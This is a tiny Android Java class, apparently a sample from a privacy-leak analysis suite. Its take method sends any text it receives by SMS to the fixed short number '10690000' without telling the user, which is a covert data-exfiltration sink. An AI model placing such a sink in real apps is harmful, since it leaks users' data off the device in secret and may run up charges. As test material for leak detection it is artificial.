package cn.privlens.suite.helper_named_after_base;

import android.telephony.SmsManager;

public class MainHelper implements Helper {
    public MainHelper() {
    }

    @Override
    public void take(String text) {
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
